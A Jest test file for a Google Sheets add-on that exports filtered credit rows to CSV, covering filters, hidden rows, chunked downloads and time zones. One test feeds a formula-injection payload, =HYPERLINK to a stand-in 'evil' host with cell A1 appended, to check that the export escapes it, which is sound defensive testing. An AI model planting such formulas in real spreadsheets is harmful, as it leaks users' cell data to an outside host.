import {
  CHUNK_ROWS,
  downloadChunk,
  downloadFilteredRows,
  joinChunks,
  prepareDownload,
} from '../../addon/server/download';
import { installFakeAppsScript } from '../fakes/apps-script';
import { shownRows, type ColumnCriteria } from '../../addon/server/visible-rows';
import { CREDIT_COLUMNS } from '../../core/sheet-contract';
import { makeCredits, setUpDesk, type Desk } from './fixtures';

let desk: Desk;
afterEach(() => desk?.fake.uninstall());

const col = (header: string) => CREDIT_COLUMNS.findIndex((c) => c.header === header) + 1;
const dataLines = (csv: string) =>
  csv
    .replace(/^\uFEFF/, '')
    .trim()
    .split('\r\n')
    .slice(1);

function filterOn(
  d: Desk,
  build: (b: ReturnType<typeof SpreadsheetApp.newFilterCriteria>) => unknown,
  header: string,
) {
  const filter = d.credits.getDataRange().createFilter();
  filter.setColumnFilterCriteria(
    col(header),
    (build(SpreadsheetApp.newFilterCriteria()) as { build(): never }).build(),
  );
}

describe('downloadFilteredRows', () => {
  test('without a filter every credit is exported', () => {
    desk = setUpDesk(makeCredits(4));
    const file = downloadFilteredRows('csv');
    expect(file).toMatchObject({ mimeType: 'text/csv', rows: 4 });
    expect(file.filename).toMatch(/^Credits - \d{4}-\d{2}-\d{2}\.csv$/);
    expect(dataLines(file.content)).toHaveLength(4);
  });

  test('rows hidden by the filter are left out (hidden values), and the file name says how it was filtered', () => {
    desk = setUpDesk(
      makeCredits(4, (i) =>
        i < 3
          ? { status: 'ASSIGNED', allocation: 'customer 100%', distributorKeeps: 0, ruleId: 'manual' }
          : {},
      ),
    );
    filterOn(desk, (b) => b.setHiddenValues(['PENDING_ASSIGN']), 'Status');
    expect([2, 3, 4, 5].map((r) => desk.credits.isRowHiddenByFilter(r))).toEqual([false, false, false, true]);
    const file = downloadFilteredRows('csv');
    expect(file.rows).toBe(3);
    expect(dataLines(file.content).every((l) => l.includes('ASSIGNED'))).toBe(true);
    expect(file.filename).toMatch(/^Credits - Status without PENDING_ASSIGN - /);
  });

  test('text and number conditions are evaluated without a call per row', () => {
    desk = setUpDesk(makeCredits(40));
    filterOn(desk, (b) => b.whenNumberGreaterThan(100.3), 'Amount');
    desk.fake.log.reset();
    const file = downloadFilteredRows('csv');
    expect(file.rows).toBe(9); // 100.31 … 100.39
    expect(desk.fake.log.count('Sheet.isRowHiddenByFilter')).toBe(0);
  });

  test('criteria it cannot evaluate are asked of Sheets in ONE request, not row by row', () => {
    desk = setUpDesk(makeCredits(4));
    filterOn(desk, (b) => b.whenFormulaSatisfied('=ISEVEN(ROW())'), 'Amount');
    const { FakeFilterCriteria } = jest.requireActual('../../emulators/spreadsheet-app');
    FakeFilterCriteria.formulaHides = (v: unknown) => v === 100.01 || v === 100.03;
    try {
      desk.fake.log.reset();
      const file = downloadFilteredRows('csv');
      expect(file.rows).toBe(2);
      expect(desk.fake.log.count('Sheet.isRowHiddenByFilter')).toBe(0);
      expect(desk.fake.log.count('Sheets.Spreadsheets.get')).toBe(1);
    } finally {
      FakeFilterCriteria.formulaHides = null;
    }
  });

  test('rows hidden by hand are left out unless the person includes them', () => {
    desk = setUpDesk(makeCredits(4));
    desk.credits.hideRows(3, 2); // 0001 and 0002
    expect(downloadFilteredRows('csv').rows).toBe(2);
    const all = downloadFilteredRows('csv', true);
    expect(all.rows).toBe(4);
    expect(dataLines(all.content)).toHaveLength(4);
  });

  test("a filter view or slicer on the sheet is announced: the download follows the sheet's own filter", () => {
    desk = setUpDesk(makeCredits(2));
    desk.credits._filterViews = ['Ana’s view'];
    desk.credits._slicers = 1;
    expect(downloadFilteredRows('csv').notices).toEqual([
      expect.stringMatching(
        /filter view \(Ana’s view\) and 1 slicer.*follows the sheet's own filter \(none: every row\)/,
      ),
    ]);
  });

  test('25,001 rows come in 3 chunks; each chunk reads only its rows; joined, they are one CSV', () => {
    desk = setUpDesk(makeCredits(25_001), { ledger: false });
    filterOn(desk, (b) => b.setHiddenValues(['100.02']), 'Amount');
    desk.fake.log.reset();
    const plan = prepareDownload('csv', false);
    expect(plan.rows).toBe(25_000);
    expect(plan.chunks.map((c) => c.rows)).toEqual([CHUNK_ROWS, CHUNK_ROWS, 5_000]);
    const parts = plan.chunks.map((c) => downloadChunk(c));
    const csv = joinChunks(parts);
    expect(csv.match(/\r\n/g)).toHaveLength(25_001); // header + rows
    expect(csv.startsWith('\uFEFFCredit ID,')).toBe(true);
    expect(csv).not.toContain('AWSC-202610-0000-0002,');
    // Bounded: reads do not grow with rows (plan: one spreadsheets.get, whose hiddenByFilter decides, and one
    // values.batchGet; each chunk: ONE values.batchGet of its header and rows).
    expect(desk.fake.log.dataCalls()).toBe(2 + plan.chunks.length);
    // All calls: plus the active spreadsheet and its id, once for the plan.
    expect(desk.fake.log.spreadsheetCalls()).toBe(4 + plan.chunks.length);
  });

  test('rows that moved between the plan and a chunk are refused, not mixed up', () => {
    desk = setUpDesk(makeCredits(5));
    const plan = prepareDownload('csv', false);
    desk.credits._sort(2, col('Amount'), true);
    expect(() => downloadChunk(plan.chunks[0])).toThrow(/rows moved while downloading/);
  });

  test('without the Sheets service: evaluated criteria still need no per-row call', () => {
    desk = setUpDesk(makeCredits(6));
    desk.fake.uninstall();
    desk.fake = installFakeAppsScript(desk.ss, { noSheetsService: true }) as typeof desk.fake;
    filterOn(desk, (b) => b.whenNumberGreaterThan(100.03), 'Amount');
    desk.fake.log.reset();
    const file = downloadFilteredRows('csv');
    expect(file.rows).toBe(2);
    expect(desk.fake.log.count('Sheet.isRowHiddenByFilter')).toBe(0);
    expect(file.notices[0]).toMatch(/hidden by hand could not be told apart/);
  });

  test.each(['Etc/UTC', 'America/Los_Angeles', 'Asia/Tokyo'])(
    'in %s the Sheets API read gives the same file as SpreadsheetApp getValues (dates, datetimes, numbers, text)',
    (zone) => {
      // Last Change (datetime) and Processing Date (date) are stored as Dates; one row has a Date at local midnight.
      desk = setUpDesk(
        makeCredits(8, (i) =>
          i % 2
            ? {
                status: 'PROCESSED',
                allocation: 'customer 100%',
                distributorKeeps: 0,
                ruleId: 'default',
                processingDate: '2026-02-03',
              }
            : { description: i === 2 ? '0012' : 'AWS MAP migration credit' },
        ),
      );
      desk.ss._timeZone = zone;
      desk.credits._rows[3][col('Last Change') - 1] = new Date('2026-03-01T08:00:00Z');
      filterOn(desk, (b) => b.setHiddenValues(['100.05']), 'Amount');
      const viaApi = downloadFilteredRows('csv');
      desk.fake.uninstall();
      desk.fake = installFakeAppsScript(desk.ss, { noSheetsService: true }) as typeof desk.fake;
      const viaApp = downloadFilteredRows('csv', true);
      expect(viaApi.content).toBe(viaApp.content);
      expect(viaApi.rows).toBe(7);
      expect(viaApi.content).toMatch(/2026-0[23]-0\d/);
    },
  );

  test('the CSV is formula-injection safe', () => {
    desk = setUpDesk(makeCredits(1, () => ({ description: '=HYPERLINK("http://evil/?"&A1)' })));
    desk.credits._rows[1][col('Description') - 1] = '=HYPERLINK("http://evil/?"&A1)';
    const line = dataLines(downloadFilteredRows('csv').content)[0];
    expect(line).toContain(`"'=HYPERLINK(""http://evil/?""&A1)"`);
  });

  test('XLSX is refused with a clear message', () => {
    desk = setUpDesk(makeCredits(1));
    // google.script.run passes whatever the page sends: a format other than CSV is refused, not guessed.
    expect(() => downloadFilteredRows('xlsx' as 'csv')).toThrow(/Choose CSV/);
  });
});

describe('shownRows (pure filter evaluation)', () => {
  const values = [['h'], ['Apple'], ['banana'], [''], [12]];
  const display = values.map((r) => r.map(String));
  const spec = (c: Partial<ColumnCriteria>) => ({
    row: 1,
    numRows: 5,
    columns: [{ col: 1, hiddenValues: null, visibleValues: null, type: null, args: [], ...c }],
  });

  test.each([
    [{ type: 'TEXT_CONTAINS', args: ['AN'] }, [true, false, true, false, false]],
    [{ type: 'TEXT_STARTS_WITH', args: ['app'] }, [true, true, false, false, false]],
    [{ type: 'CELL_EMPTY' }, [true, false, false, true, false]],
    [{ type: 'NUMBER_LESS_THAN', args: [20] }, [true, false, false, false, true]],
    [{ visibleValues: ['Apple', '12'] }, [true, true, false, false, true]],
  ])('%j', (c, expected) => {
    expect(shownRows(spec(c as Partial<ColumnCriteria>), values, display)).toEqual(expected);
  });

  test('unsupported criteria → null (ask the sheet)', () => {
    expect(shownRows(spec({ type: 'DATE_BEFORE', args: [] }), values, display)).toBeNull();
  });
});
